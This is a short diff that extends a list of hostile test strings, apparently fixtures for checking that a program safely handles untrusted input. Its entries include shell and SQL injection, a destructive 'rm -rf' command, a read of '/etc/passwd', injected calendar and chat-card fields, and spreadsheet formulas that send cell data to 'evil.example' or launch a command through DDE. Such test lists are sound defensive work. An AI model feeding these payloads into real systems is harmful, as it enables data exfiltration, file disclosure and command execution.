@@ -43,6 +43,17 @@ EVIL = (
     "%s %(name)s %n",
     "$(touch /tmp/x) `id` ; rm -rf x | cat",
     "Robert'); DROP TABLE requests;--",
+    # calendars, cards and typeset pages
+    'CN="A";X=1:mailto:evil@x.example',
+    "BEGIN:VEVENT\\nSUMMARY:x\\nRRULE:FREQ=SECONDLY",
+    "\r\nATTACH:http://evil.example/x",
+    '"}],"actions":[{"type":"Action.OpenUrl","url":"http://evil.example"}]}',
+    "${data.secret} $(title)",
+    "<at>everyone</at> <https://evil.example|x>",
+    '#read("/etc/passwd") #import "x": *',
+    "$x^2$ *b* _i_ @ref <label> \\#{",
+    "\ufb01\u00adnnish\u3000\u00a0",
+    "mailto:evil@x.example?bcc=all@x.example",
     # spreadsheets
     '=HYPERLINK("http://evil.example/?"&A2)',
     "=cmd|' /C calc'!A0",
